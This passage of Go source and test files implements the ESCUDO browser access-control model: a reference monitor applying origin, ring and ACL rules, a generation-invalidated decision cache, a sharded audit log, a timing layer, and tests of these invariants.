	oRing   Ring
	op      Op
	acl     ACL
}

// verdict is the cached outcome plus the generation it was computed
// under; stale generations are treated as misses.
type verdict struct {
	gen     uint64
	rule    RuleID
	allowed bool
}

// cacheShardCount must be a power of two (the shard index is a mask).
const cacheShardCount = 64

// maxShardEntries bounds each shard; on overflow the shard is rebuilt
// keeping only current-generation entries, and cleared outright if
// still over the bound. The workload's distinct-key population is tiny
// (rings × ops × a handful of origins and ACLs), so this is a backstop
// against pathological key churn, not a working-set limit.
const maxShardEntries = 4096

type cacheShard struct {
	mu sync.RWMutex
	m  map[cacheKey]verdict
}

// DecisionCache memoizes reference-monitor verdicts. It is safe for
// concurrent use and is designed to be shared: one cache can back
// every session of a pool, so a verdict computed by one session is a
// hit for all of them.
//
// All monitors sharing one cache must enforce the same policy — a
// cache populated by an ERM must not serve a SOPMonitor, since the two
// map the same key to different verdicts. Invalidate exists for
// callers that change policy in place.
type DecisionCache struct {
	gen    atomic.Uint64
	hits   atomic.Uint64
	misses atomic.Uint64
	shards [cacheShardCount]cacheShard
}

// NewDecisionCache returns an empty cache.
func NewDecisionCache() *DecisionCache {
	return &DecisionCache{}
}

// key builds the packed cache key for a query. Same-origin queries —
// the overwhelmingly common case — intern once.
func key(p Context, op Op, o Context) cacheKey {
	pID := origin.Intern(p.Origin)
	oID := pID
	if o.Origin != p.Origin {
		oID = origin.Intern(o.Origin)
	}
	return cacheKey{
		pOrigin: pID,
		oOrigin: oID,
		pRing:   p.Ring,
		oRing:   o.Ring,
		op:      op,
		acl:     o.ACL,
	}
}

// shardIndex mixes the key fields into a shard index. The multipliers
// are odd primes; origins and rings carry most of the entropy.
func shardIndex(k cacheKey) uint64 {
	h := uint64(k.pOrigin)*0x9e3779b1 ^ uint64(k.oOrigin)*0x85ebca77
	h ^= uint64(k.pRing)<<16 ^ uint64(k.oRing)<<24 ^ uint64(k.op)<<32
	h ^= uint64(k.acl.Read)<<40 ^ uint64(k.acl.Write)<<48 ^ uint64(k.acl.Use)<<56
	h ^= h >> 33
	return h & (cacheShardCount - 1)
}

// lookup returns the cached verdict for the key, if one from the
// current generation exists, along with the generation observed — a
// miss's verdict must be stored under that generation, not the one
// current at store time, or a verdict computed just before a
// concurrent Invalidate would be cached as fresh. The read path takes
// only the shard's read lock, so parallel sessions with disjoint or
// even identical keys proceed without serializing.
func (c *DecisionCache) lookup(k cacheKey) (verdict, uint64, bool) {
	gen := c.gen.Load()
	s := &c.shards[shardIndex(k)]
	s.mu.RLock()
	v, ok := s.m[k]
	s.mu.RUnlock()
	if !ok || v.gen != gen {
		c.misses.Add(1)
		return verdict{}, gen, false
	}
	c.hits.Add(1)
	return v, gen, true
}

// store records a verdict under the generation observed by the lookup
// that missed. If Invalidate ran in between, gen is already stale and
// the entry is dead on arrival — correct, since the verdict was
// computed under the old policy.
func (c *DecisionCache) store(k cacheKey, d Decision, gen uint64) {
	s := &c.shards[shardIndex(k)]
	s.mu.Lock()
	if s.m == nil {
		s.m = make(map[cacheKey]verdict)
	}
	if len(s.m) >= maxShardEntries {
		cur := c.gen.Load()
		live := make(map[cacheKey]verdict, len(s.m)/2)
		for ek, ev := range s.m {
			if ev.gen == cur {
				live[ek] = ev
			}
		}
		if len(live) >= maxShardEntries {
			live = make(map[cacheKey]verdict)
		}
		s.m = live
	}
	s.m[k] = verdict{gen: gen, rule: d.Rule, allowed: d.Allowed}
	s.mu.Unlock()
}

// Invalidate advances the cache generation, atomically making every
// cached verdict stale. Call it whenever the policy a monitor enforces
// changes out from under the cache (a page reconfigured in place, a
// monitor swapped for one with different semantics). Entries are
// evicted lazily as shards fill.
func (c *DecisionCache) Invalidate() {
	c.gen.Add(1)
}

// Generation returns the current cache generation (starts at 0,
// incremented by Invalidate).
func (c *DecisionCache) Generation() uint64 {
	return c.gen.Load()
}

// CacheStats is a point-in-time snapshot of cache effectiveness.
type CacheStats struct {
	// Hits and Misses count lookups since the cache was created.
	Hits   uint64
	Misses uint64
	// Entries counts live (current-generation) cached verdicts.
	Entries int
	// Generation is the current invalidation generation.
	Generation uint64
}

// HitRate returns hits/(hits+misses), or 0 before any lookup.
func (s CacheStats) HitRate() float64 {
	total := s.Hits + s.Misses
	if total == 0 {
		return 0
	}
	return float64(s.Hits) / float64(total)
}

// Sub returns the stats delta since an earlier snapshot, for measuring
// one phase of a longer run.
func (s CacheStats) Sub(earlier CacheStats) CacheStats {
	return CacheStats{
		Hits:       s.Hits - earlier.Hits,
		Misses:     s.Misses - earlier.Misses,
		Entries:    s.Entries,
		Generation: s.Generation,
	}
}

// Stats snapshots the cache counters.
func (c *DecisionCache) Stats() CacheStats {
	st := CacheStats{
		Hits:       c.hits.Load(),
		Misses:     c.misses.Load(),
		Generation: c.gen.Load(),
	}
	gen := st.Generation
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.RLock()
		for _, v := range s.m {
			if v.gen == gen {
				st.Entries++
			}
		}
		s.mu.RUnlock()
	}
	return st
}

// CachedMonitor wraps an inner monitor with a DecisionCache. On a hit
// it rebuilds the Decision from the cached verdict and the live query
// contexts (so audit trails still carry the real labels); on a miss it
// delegates to the inner monitor and stores the outcome.
//
// Leave the inner monitor's Trace nil and set it here instead:
// CachedMonitor fires Trace for every decision, hit or miss, so audit
// logs see the same stream they would without the cache.
//
// Deprecated: building monitor stacks out of CachedMonitor literals
// (with the Trace/TraceBatch hooks wired by hand) is superseded by the
// pipeline: Compose(inner, WithCache(cache), WithAudit(log)) builds
// the same stack with the same decision stream, and composes with the
// delegation and trace layers. The type remains as the caching layer's
// implementation and for existing callers.
type CachedMonitor struct {
	// Inner computes decisions on cache misses.
	Inner Monitor
	// Cache memoizes verdicts; nil disables caching.
	Cache *DecisionCache
	// Trace, when non-nil, receives every decision made.
	Trace func(Decision)
	// TraceBatch, when non-nil, receives whole batched regions in one
	// call instead of per-node Trace firings.
	TraceBatch func([]Decision)
}

var _ Monitor = (*CachedMonitor)(nil)

// Authorize implements Monitor with the cache fast path.
func (m *CachedMonitor) Authorize(p Context, op Op, o Context) Decision {
	if m.Cache == nil {
		d := m.Inner.Authorize(p, op, o)
		if m.Trace != nil {
			m.Trace(d)
		}
		return d
	}
	k := key(p, op, o)
	v, gen, ok := m.Cache.lookup(k)
	if ok {
		d := Decision{Allowed: v.allowed, Rule: v.rule, Principal: p, Op: op, Object: o}
		if m.Trace != nil {
			m.Trace(d)
		}
		return d
	}
	d := m.Inner.Authorize(p, op, o)
	m.Cache.store(k, d, gen)
	if m.Trace != nil {
		m.Trace(d)
	}
	return d
}
