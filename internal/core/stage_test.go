package core

import (
	"reflect"
	"testing"

	"repro/internal/obs"
)

// TestStageTimingNeverChangesDecisions pins invariant 9 at the layer
// level: the same query stream through a timed and an untimed stack
// yields byte-identical audit sequences, and batched regions keep
// their exact decision counts.
func TestStageTimingNeverChangesDecisions(t *testing.T) {
	plainAudit := &AuditLog{}
	plain := Compose(&ERM{}, WithCache(NewDecisionCache()), WithAudit(plainAudit))

	clock := obs.NewStageClock()
	timedAudit := &AuditLog{}
	timed := Compose(&ERM{}, WithCache(NewDecisionCache()), WithAudit(timedAudit),
		WithStageTiming(func() *obs.StageClock { return clock }))

	driveMonitor(plain)
	driveMonitor(timed)

	plainSeq, timedSeq := plainAudit.All(), timedAudit.All()
	if len(plainSeq) == 0 {
		t.Fatal("untimed stack recorded nothing; stream broken")
	}
	if !reflect.DeepEqual(plainSeq, timedSeq) {
		t.Fatalf("timing changed the decision sequence:\n untimed: %v\n timed: %v", plainSeq, timedSeq)
	}
	if clock.Nanos(obs.StageBatchAuth) <= 0 {
		t.Fatal("timed stack accrued no batch_auth time")
	}
	for s := obs.Stage(0); s < obs.NumStages; s++ {
		if s != obs.StageBatchAuth && clock.Nanos(s) != 0 {
			t.Fatalf("pipeline layer accrued time on foreign stage %s", s)
		}
	}

	// Batch counts are part of the invariant: the timed layer must
	// return the inner region verbatim.
	p, _, batchOp, region := pipeQueries()
	out := AuthorizeBatch(timed, p, batchOp, region)
	if len(out) != len(region) {
		t.Fatalf("timed batch returned %d decisions, want %d", len(out), len(region))
	}
}

// TestStageTimingNilClock pins the pass-through and the nil-resolve
// paths: a nil clock func composes to the base monitor, and a func
// that resolves to nil still authorizes correctly.
func TestStageTimingNilClock(t *testing.T) {
	base := &ERM{}
	if m := Compose(base, WithStageTiming(nil)); m != Monitor(base) {
		t.Fatalf("nil clock func must compose to the base monitor, got %T", m)
	}
	m := Compose(base, WithStageTiming(func() *obs.StageClock { return nil }))
	p, singles, _, _ := pipeQueries()
	d := m.Authorize(p, singles[0].op, singles[0].o)
	if !d.Allowed {
		t.Fatalf("nil-resolving clock broke authorization: %v", d)
	}
}
