package core

import (
	"testing"
)

// TestWithGenStampsScalarAndBatch pins the stamping layer: every
// decision — scalar or batched — carries the pinned generation and
// page identity, and nothing else about the decision changes.
func TestWithGenStampsScalarAndBatch(t *testing.T) {
	inner := &ERM{}
	m := WithGen(7, 42)(inner)
	p := Principal(batchSite, 1, "script")
	o := Object(batchSite, 2, UniformACL(2), "node")

	d := m.Authorize(p, OpRead, o)
	want := inner.Authorize(p, OpRead, o)
	if d.Allowed != want.Allowed || d.Rule != want.Rule {
		t.Fatalf("stamping changed the verdict: %v/%v vs %v/%v", d.Allowed, d.Rule, want.Allowed, want.Rule)
	}
	if d.PolicyGen != 7 || d.PageID != 42 {
		t.Fatalf("scalar decision stamped %d/%d, want 7/42", d.PolicyGen, d.PageID)
	}

	ba, ok := m.(BatchAuthorizer)
	if !ok {
		t.Fatal("WithGen layer lost the batched path")
	}
	out := ba.AuthorizeBatch(p, OpRead, batchObjects(20, 4))
	for i, d := range out {
		if d.PolicyGen != 7 || d.PageID != 42 {
			t.Fatalf("batch decision %d stamped %d/%d, want 7/42", i, d.PolicyGen, d.PageID)
		}
	}
}

// TestWithGenPreservesBatchDedup pins the batch counters across the
// layer: stamping happens after the inner batched path runs, so the
// distinct-decision dedup the cache relies on is untouched — the
// equivalence invariant's fixed batch counts survive a mounted
// control plane.
func TestWithGenPreservesBatchDedup(t *testing.T) {
	cache := NewDecisionCache()
	cm := &CachedMonitor{Inner: &ERM{}, Cache: cache}
	m := WithGen(3, 9)(cm)
	p := Principal(batchSite, 1, "script")
	objs := batchObjects(60, 3)
	m.(BatchAuthorizer).AuthorizeBatch(p, OpRead, objs)
	st := cache.Stats()
	if got := st.Hits + st.Misses; got != 3 {
		t.Fatalf("cache probes through the layer = %d, want 3 (one per class)", got)
	}
}

// TestWithGenZeroIsPassThrough pins the unwired default: a zero stamp
// composes to the identity, so a deployment without a control plane
// runs the exact monitor stack it ran before the layer existed.
func TestWithGenZeroIsPassThrough(t *testing.T) {
	inner := &ERM{}
	if m := WithGen(0, 0)(inner); m != Monitor(inner) {
		t.Fatal("WithGen(0,0) built a layer instead of passing through")
	}
}

// TestGenerationMixAudit pins the invariant's auditor: pages whose
// decisions all share one generation are clean; a page that records
// two generations is flagged as mixed.
func TestGenerationMixAudit(t *testing.T) {
	log := &AuditLog{}
	p := Principal(batchSite, 1, "script")
	o := Object(batchSite, 2, UniformACL(2), "node")

	// The production order: the audit layer outermost, so it records
	// decisions already stamped by the generation layer.
	stack := func(gen, page uint64) Monitor {
		return Compose(&ERM{}, WithGen(gen, page), WithAudit(log))
	}

	// Page 1 decides twice under generation 4; page 2 once under 5.
	stack(4, 1).Authorize(p, OpRead, o)
	stack(4, 1).Authorize(p, OpWrite, o)
	stack(5, 2).Authorize(p, OpRead, o)
	// A request-scoped decision (no page) is invisible to the audit.
	stack(5, 0).Authorize(p, OpRead, o)

	mix := log.GenerationMix()
	if mix.Pages != 2 || mix.Mixed != 0 || mix.Generations != 2 {
		t.Fatalf("clean log mix = %+v, want 2 pages, 0 mixed, 2 generations", mix)
	}

	// Now poison page 1 with a second generation.
	stack(6, 1).Authorize(p, OpRead, o)
	mix = log.GenerationMix()
	if mix.Mixed != 1 {
		t.Fatalf("poisoned log mix = %+v, want 1 mixed page", mix)
	}
}
