package core

import (
	"fmt"
	"sort"
	"sync"
	"sync/atomic"
)

// RuleID identifies which of the model's rules produced a decision.
type RuleID int

// The rules of the ESCUDO MAC policy (§4.2), plus the synthetic
// "allowed" outcome when all rules pass.
const (
	RuleAllowed   RuleID = iota + 1 // every applicable rule passed
	RuleOrigin                      // O(P) = O(O) failed
	RuleRing                        // R(P) ≤ R(O) failed
	RuleACL                         // R(P) ≤ ⊓(O, op) failed
	RuleInvalidOp                   // the operation itself was malformed
)

// String names the rule for traces and test failures.
func (r RuleID) String() string {
	switch r {
	case RuleAllowed:
		return "allowed"
	case RuleOrigin:
		return "origin-rule"
	case RuleRing:
		return "ring-rule"
	case RuleACL:
		return "acl-rule"
	case RuleInvalidOp:
		return "invalid-op"
	default:
		return fmt.Sprintf("rule(%d)", int(r))
	}
}

// Decision is the outcome of a single authorization query.
type Decision struct {
	// Allowed reports whether the access is permitted.
	Allowed bool
	// Rule identifies the first rule that denied the access, or
	// RuleAllowed when it is permitted.
	Rule RuleID
	// Principal, Op, Object echo the query for audit trails.
	Principal Context
	Op        Op
	Object    Context
	// TraceID and Span place the decision in the causal trace of the
	// task that triggered it (see internal/obs). Both are zero when the
	// decision was made outside any traced task or without a WithObs
	// layer mounted. They carry provenance only: equality of the policy
	// outcome is judged on the fields above.
	TraceID string
	Span    uint64
	// PolicyGen and PageID pin the decision to the fleet policy
	// generation its page load captured (see internal/ctlplane) and to
	// that load's identity. Both are zero without a WithGen layer
	// mounted. Like TraceID/Span they are provenance only — but the
	// control plane's standing invariant ("a page load observes exactly
	// one policy generation") is audited on them: every decision of one
	// PageID must carry the same PolicyGen.
	PolicyGen uint64
	PageID    uint64
}

// String renders the decision in the paper's ⟨P ⊳ O⟩ notation.
func (d Decision) String() string {
	verdict := "DENY"
	if d.Allowed {
		verdict = "ALLOW"
	}
	return fmt.Sprintf("%s ⟨%s %s %s⟩ (%s)", verdict, d.Principal, d.Op, d.Object, d.Rule)
}

// Monitor is the single chokepoint through which every mediated access
// in the browser flows: the DOM API, the cookie jar, XHR, event
// delivery and the request pipeline all consult a Monitor. ERM
// implements the ESCUDO policy; SOPMonitor implements the legacy
// same-origin policy.
type Monitor interface {
	// Authorize decides whether principal p may perform op on object o.
	Authorize(p Context, op Op, o Context) Decision
}

// ERM is the ESCUDO Reference Monitor (§6.1). An access ⟨P ⊳ O⟩ is
// permitted iff the Origin rule, the Ring rule, and the ACL rule all
// permit it (§4.2). The zero value is ready to use.
type ERM struct {
	// Trace, when non-nil, receives every decision made. It is used
	// by the attack harness and the inspect tool; nil disables
	// tracing with no overhead beyond the nil check.
	Trace func(Decision)
	// TraceBatch, when non-nil, receives whole batched-authorization
	// regions in one call (typically AuditLog.RecordAll) instead of
	// Trace firing per node — same stream, one lock per region.
	TraceBatch func([]Decision)
}

var _ Monitor = (*ERM)(nil)

// decide evaluates the three ESCUDO rules without tracing; Authorize
// and the batched path share it.
func (m *ERM) decide(p Context, op Op, o Context) Decision {
	d := Decision{Principal: p, Op: op, Object: o}
	switch {
	case !op.Valid():
		d.Rule = RuleInvalidOp
	case !p.Origin.SameOrigin(o.Origin):
		d.Rule = RuleOrigin
	case !p.Ring.AtLeastAsPrivileged(o.Ring):
		d.Rule = RuleRing
	case !o.ACL.Permits(p.Ring, op):
		d.Rule = RuleACL
	default:
		d.Rule = RuleAllowed
		d.Allowed = true
	}
	return d
}

// Authorize implements Monitor with the three ESCUDO rules, evaluated
// in the paper's order: Origin, Ring, ACL. The first failing rule is
// reported in the decision.
func (m *ERM) Authorize(p Context, op Op, o Context) Decision {
	d := m.decide(p, op, o)
	if m.Trace != nil {
		m.Trace(d)
	}
	return d
}

// SOPMonitor is the baseline same-origin policy: the only check is the
// Origin rule. Under it, "all principals inside the web application
// are associated with a single principal identified by the origin and
// are associated with all the privileges irrespective of their
// trustworthiness" (§2.3). The zero value is ready to use.
type SOPMonitor struct {
	// Trace, when non-nil, receives every decision made.
	Trace func(Decision)
	// TraceBatch, when non-nil, receives whole batched regions in one
	// call instead of per-node Trace firings.
	TraceBatch func([]Decision)
}

var _ Monitor = (*SOPMonitor)(nil)

// decide evaluates the origin test without tracing; Authorize and the
// batched path share it.
func (m *SOPMonitor) decide(p Context, op Op, o Context) Decision {
	d := Decision{Principal: p, Op: op, Object: o}
	switch {
	case !op.Valid():
		d.Rule = RuleInvalidOp
	case !p.Origin.SameOrigin(o.Origin):
		d.Rule = RuleOrigin
	default:
		d.Rule = RuleAllowed
		d.Allowed = true
	}
	return d
}

// Authorize implements Monitor with only the origin test.
func (m *SOPMonitor) Authorize(p Context, op Op, o Context) Decision {
	d := m.decide(p, op, o)
	if m.Trace != nil {
		m.Trace(d)
	}
	return d
}

// auditShardCount must be a power of two (records shard by sequence
// number). Sixteen shards keeps write contention negligible at the
// session counts the engine targets while reads stay cheap.
const auditShardCount = 16

// auditRecord is one decision stamped with its global sequence number,
// so the per-shard streams can be merged back into arrival order.
type auditRecord struct {
	seq uint64
	d   Decision
}

// auditBatch is one batched region of decisions: consecutive tickets
// start..start+len(ds)-1. The slice is stored as-is (callers hand over
// ownership), so recording a region costs one header append, not n
// record copies.
type auditBatch struct {
	start uint64
	ds    []Decision
}

// auditShard is one independently locked slice of the log.
type auditShard struct {
	mu      sync.RWMutex
	recs    []auditRecord
	batches []auditBatch
}

// AuditLog is a concurrency-safe decision recorder that can be plugged
// into a monitor's Trace hook. The attack harness uses it to explain
// which rule neutralized each attack.
//
// Every decision on the hot path flows through Record, so the log is
// sharded: writers take a global atomic ticket and append under one of
// several shard locks, instead of serializing on a single mutex.
// Readers (rare, post-hoc) merge the shards back into ticket order.
type AuditLog struct {
	seq    atomic.Uint64
	shards [auditShardCount]auditShard
}

// Record appends a decision; it is safe for concurrent use and has the
// signature required by the Trace hooks.
func (l *AuditLog) Record(d Decision) {
	seq := l.seq.Add(1)
	s := &l.shards[seq&(auditShardCount-1)]
	s.mu.Lock()
	s.recs = append(s.recs, auditRecord{seq: seq, d: d})
	s.mu.Unlock()
}

// RecordAll appends a batch of decisions: it reserves a contiguous
// ticket range with a single atomic add, then stores the slice itself
// (with its start ticket) under one shard lock — no per-record copy,
// no per-record lock. The caller hands over ownership: the slice must
// not be mutated after the call. Ordering is unaffected — readers
// merge singles and batches by ticket — and concurrent batches land in
// different shards (the range start rotates), so sessions still don't
// serialize. It has the signature required by the TraceBatch hooks.
func (l *AuditLog) RecordAll(ds []Decision) {
	n := uint64(len(ds))
	if n == 0 {
		return
	}
	start := l.seq.Add(n) - n + 1
	s := &l.shards[start&(auditShardCount-1)]
	s.mu.Lock()
	s.batches = append(s.batches, auditBatch{start: start, ds: ds})
	s.mu.Unlock()
}

// merged snapshots every shard — singles and batched regions — and
// returns the records in recording order, optionally filtered.
func (l *AuditLog) merged(keep func(Decision) bool) []Decision {
	var recs []auditRecord
	for i := range l.shards {
		s := &l.shards[i]
		s.mu.RLock()
		for _, r := range s.recs {
			if keep == nil || keep(r.d) {
				recs = append(recs, r)
			}
		}
		for _, b := range s.batches {
			for j, d := range b.ds {
				if keep == nil || keep(d) {
					recs = append(recs, auditRecord{seq: b.start + uint64(j), d: d})
				}
			}
		}
		s.mu.RUnlock()
	}
	sort.Slice(recs, func(a, b int) bool { return recs[a].seq < recs[b].seq })
	out := make([]Decision, len(recs))
	for i, r := range recs {
		out[i] = r.d
	}
	return out
}

// Denials returns a copy of all denied decisions recorded so far.
func (l *AuditLog) Denials() []Decision {
	out := l.merged(func(d Decision) bool { return !d.Allowed })
	if len(out) == 0 {
		return nil
	}
	return out
}

// All returns a copy of every recorded decision.
func (l *AuditLog) All() []Decision {
	return l.merged(nil)
}

// Reset clears the log.
func (l *AuditLog) Reset() {
	for i := range l.shards {
		s := &l.shards[i]
		s.mu.Lock()
		s.recs = nil
		s.batches = nil
		s.mu.Unlock()
	}
}

// GenerationMix summarizes how policy generations were observed across
// the log's page-pinned decisions (records whose PageID is non-zero;
// unpinned records predate the control plane or happened outside any
// page load and are not counted).
type GenerationMix struct {
	// Pages is the number of distinct page loads observed.
	Pages int `json:"pages"`
	// Mixed counts pages whose decisions carry more than one distinct
	// PolicyGen — the control plane's invariant demands zero.
	Mixed int `json:"mixed"`
	// Generations is the number of distinct policy generations seen
	// across all pinned records (≥2 after a mid-run flip).
	Generations int `json:"generations"`
}

// Add folds another summary into m (page sets are disjoint across
// sessions — each browser mints unique page IDs — so counts sum; the
// generation count takes the max, a lower bound on the union).
func (m GenerationMix) Add(o GenerationMix) GenerationMix {
	g := m.Generations
	if o.Generations > g {
		g = o.Generations
	}
	return GenerationMix{Pages: m.Pages + o.Pages, Mixed: m.Mixed + o.Mixed, Generations: g}
}

// GenerationMix scans the log and reports the per-page policy
// generation spread — the audit behind standing invariant 8.
func (l *AuditLog) GenerationMix() GenerationMix {
	firstGen := map[uint64]uint64{}
	mixed := map[uint64]bool{}
	gens := map[uint64]bool{}
	for _, d := range l.merged(nil) {
		if d.PageID == 0 {
			continue
		}
		gens[d.PolicyGen] = true
		if g, ok := firstGen[d.PageID]; !ok {
			firstGen[d.PageID] = d.PolicyGen
		} else if g != d.PolicyGen {
			mixed[d.PageID] = true
		}
	}
	return GenerationMix{Pages: len(firstGen), Mixed: len(mixed), Generations: len(gens)}
}

// Len returns the number of recorded decisions.
func (l *AuditLog) Len() int {
	n := 0
	for i := range l.shards {
		s := &l.shards[i]
		s.mu.RLock()
		n += len(s.recs)
		for _, b := range s.batches {
			n += len(b.ds)
		}
		s.mu.RUnlock()
	}
	return n
}
