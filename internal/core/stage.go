package core

import (
	"time"

	"repro/internal/obs"
)

// WithStageTiming returns the latency-attribution layer: the wall
// time of every Authorize/AuthorizeBatch through the inner stack is
// accrued against obs.StageBatchAuth on the task's current clock.
// Mount it outermost so the measured span covers the whole pipeline —
// delegation rewriting, cache probes, rule evaluation, and audit
// recording alike.
//
// Invariant 9: timing observation never changes a verdict or a batch
// count. The layer returns the inner stack's decisions untouched; the
// clock only ever sees durations. A nil clock func yields a
// pass-through layer, and a func that resolves to nil costs one
// branch per call (StageClock.Add is nil-safe and allocation-free).
func WithStageTiming(clock func() *obs.StageClock) Layer {
	return func(inner Monitor) Monitor {
		if clock == nil {
			return inner
		}
		return &stageTimingLayer{inner: inner, clock: clock}
	}
}

// stageTimingLayer accrues pipeline wall time on the task's clock.
type stageTimingLayer struct {
	inner Monitor
	clock func() *obs.StageClock
}

var (
	_ Monitor         = (*stageTimingLayer)(nil)
	_ BatchAuthorizer = (*stageTimingLayer)(nil)
)

// Authorize implements Monitor.
func (m *stageTimingLayer) Authorize(p Context, op Op, o Context) Decision {
	start := time.Now()
	d := m.inner.Authorize(p, op, o)
	m.clock().Add(obs.StageBatchAuth, time.Since(start))
	return d
}

// AuthorizeBatch implements BatchAuthorizer: the region's decisions
// pass through byte-identical; only the elapsed time is observed.
func (m *stageTimingLayer) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	start := time.Now()
	out := AuthorizeBatch(m.inner, p, op, objects)
	m.clock().Add(obs.StageBatchAuth, time.Since(start))
	return out
}
