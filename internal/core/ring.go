// Package core implements the ESCUDO access-control model (paper §4):
// per-page hierarchical protection rings, per-object access-control
// lists, security contexts for principals and objects, and the ESCUDO
// Reference Monitor (ERM) enforcing the Origin, Ring, and ACL rules.
//
// The package also provides the baseline same-origin-policy monitor
// used for comparison and for legacy (non-ESCUDO) pages, and the
// parsing/serialization of ESCUDO configuration carried in AC-tag
// attributes and X-Escudo-* HTTP headers.
package core

import (
	"errors"
	"fmt"
	"strconv"
)

// Ring is a hierarchical protection ring label. Ring 0 is the most
// privileged ring; higher numbers have strictly fewer privileges
// (paper §3, Figure 1). Rings are per-page: every web page chooses its
// own maximum ring N, and labels are only comparable within one page
// (or across pages of the same origin, §4 "Rings").
type Ring int

// RingKernel is the most privileged ring of every page. The paper
// mandatorily assigns browser state (history, visited links, cache) to
// this ring (§4.1 "Browser State").
const RingKernel Ring = 0

// DefaultMaxRing is the illustrative ring count used throughout the
// paper (N = 3, §4.1): "This is a large enough number to demonstrate
// interaction between rings without being cumbersome."
const DefaultMaxRing Ring = 3

// MaxSupportedRing bounds how many rings a page may declare; it exists
// only to reject absurd configurations, not to constrain applications
// (the paper leaves N application-dependent).
const MaxSupportedRing Ring = 255

// ErrBadRing reports an unparsable or out-of-range ring label.
var ErrBadRing = errors.New("core: invalid ring label")

// ParseRing parses a decimal ring label as it appears in an AC-tag
// attribute or an X-Escudo header, validating it against maxRing.
func ParseRing(s string, maxRing Ring) (Ring, error) {
	n, err := strconv.Atoi(s)
	if err != nil {
		return 0, fmt.Errorf("%w: %q", ErrBadRing, s)
	}
	r := Ring(n)
	if r < RingKernel || r > maxRing {
		return 0, fmt.Errorf("%w: %d outside [0,%d]", ErrBadRing, n, maxRing)
	}
	return r, nil
}

// Clamp returns r forced into [0, maxRing]. The scoping rule (§5) and
// fail-safe defaults both rely on clamping rather than rejecting.
func (r Ring) Clamp(maxRing Ring) Ring {
	if r < RingKernel {
		return RingKernel
	}
	if r > maxRing {
		return maxRing
	}
	return r
}

// AtLeastAsPrivileged reports whether a principal in ring r holds at
// least the privileges of ring s, i.e. r ≤ s in the HPR ordering.
func (r Ring) AtLeastAsPrivileged(s Ring) bool { return r <= s }

// Outermost returns the less privileged (numerically larger) of r and
// s. The scoping rule clamps children with it.
func (r Ring) Outermost(s Ring) Ring {
	if r > s {
		return r
	}
	return s
}

// String renders the ring label as its decimal number.
func (r Ring) String() string { return strconv.Itoa(int(r)) }

// Op is an operation a principal performs on an object. ESCUDO
// distinguishes read, write, and use; "use" is the implicit access a
// browser performs on behalf of a principal, such as attaching cookies
// to an HTTP request or delivering a UI event (§4.1 "ACL").
type Op int

// Operations, numbered from one so the zero Op is invalid.
const (
	OpRead Op = iota + 1
	OpWrite
	OpUse
)

// String returns the lowercase operation name.
func (op Op) String() string {
	switch op {
	case OpRead:
		return "read"
	case OpWrite:
		return "write"
	case OpUse:
		return "use"
	default:
		return fmt.Sprintf("op(%d)", int(op))
	}
}

// Valid reports whether op is one of the three defined operations.
func (op Op) Valid() bool { return op >= OpRead && op <= OpUse }
