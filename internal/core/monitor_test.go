package core

import (
	"testing"
	"testing/quick"

	"repro/internal/origin"
)

var (
	siteA = origin.MustParse("http://a.example")
	siteB = origin.MustParse("http://b.example")
)

// TestRulesERM exercises the three-rule MAC policy of §4.2 as a
// decision table.
func TestRulesERM(t *testing.T) {
	erm := &ERM{}
	tests := []struct {
		name     string
		p        Context
		op       Op
		o        Context
		allowed  bool
		wantRule RuleID
	}{
		{
			name:     "same origin, dominating ring, permissive acl",
			p:        Principal(siteA, 1, "script"),
			op:       OpWrite,
			o:        Object(siteA, 2, PermissiveACL(3), "div"),
			allowed:  true,
			wantRule: RuleAllowed,
		},
		{
			name:     "origin rule denies cross-origin",
			p:        Principal(siteB, 0, "evil"),
			op:       OpRead,
			o:        Object(siteA, 3, PermissiveACL(3), "div"),
			allowed:  false,
			wantRule: RuleOrigin,
		},
		{
			name:     "ring rule denies lower-privileged principal",
			p:        Principal(siteA, 3, "comment script"),
			op:       OpWrite,
			o:        Object(siteA, 1, PermissiveACL(3), "app content"),
			allowed:  false,
			wantRule: RuleRing,
		},
		{
			name:     "acl rule denies within same ring",
			p:        Principal(siteA, 3, "comment script"),
			op:       OpWrite,
			o:        Object(siteA, 3, ACL{Read: 3, Write: 2, Use: 3}, "other comment"),
			allowed:  false,
			wantRule: RuleACL,
		},
		{
			name:     "equal rings allowed by ring rule",
			p:        Principal(siteA, 2, "p"),
			op:       OpRead,
			o:        Object(siteA, 2, PermissiveACL(3), "o"),
			allowed:  true,
			wantRule: RuleAllowed,
		},
		{
			name:     "use operation consults x ceiling",
			p:        Principal(siteA, 2, "img"),
			op:       OpUse,
			o:        Object(siteA, 3, ACL{Read: 3, Write: 3, Use: 1}, "cookie"),
			allowed:  false,
			wantRule: RuleACL,
		},
		{
			name:     "fail-safe zero acl admits only ring 0",
			p:        Principal(siteA, 1, "p"),
			op:       OpRead,
			o:        Object(siteA, 3, ACL{}, "o"),
			allowed:  false,
			wantRule: RuleACL,
		},
		{
			name:     "ring 0 passes the zero acl",
			p:        Principal(siteA, 0, "app"),
			op:       OpWrite,
			o:        Object(siteA, 3, ACL{}, "o"),
			allowed:  true,
			wantRule: RuleAllowed,
		},
		{
			name:     "invalid op denied",
			p:        Principal(siteA, 0, "p"),
			op:       Op(0),
			o:        Object(siteA, 0, PermissiveACL(3), "o"),
			allowed:  false,
			wantRule: RuleInvalidOp,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := erm.Authorize(tt.p, tt.op, tt.o)
			if d.Allowed != tt.allowed || d.Rule != tt.wantRule {
				t.Errorf("Authorize = %v, want allowed=%v rule=%v", d, tt.allowed, tt.wantRule)
			}
		})
	}
}

// TestRulesOrderOfEvaluation checks the first failing rule is the one
// reported, in the paper's order: origin, ring, ACL.
func TestRulesOrderOfEvaluation(t *testing.T) {
	erm := &ERM{}
	// Fails all three rules; origin must be reported.
	d := erm.Authorize(Principal(siteB, 3, "p"), OpWrite, Object(siteA, 1, ACL{}, "o"))
	if d.Rule != RuleOrigin {
		t.Errorf("rule = %v, want origin-rule first", d.Rule)
	}
	// Fails ring and ACL; ring must be reported.
	d = erm.Authorize(Principal(siteA, 3, "p"), OpWrite, Object(siteA, 1, ACL{}, "o"))
	if d.Rule != RuleRing {
		t.Errorf("rule = %v, want ring-rule before acl-rule", d.Rule)
	}
}

// TestACLCannotWeakenRing verifies the §4.2 remark: an ACL laxer than
// the object's ring is ineffective because the ring rule still
// denies.
func TestACLCannotWeakenRing(t *testing.T) {
	erm := &ERM{}
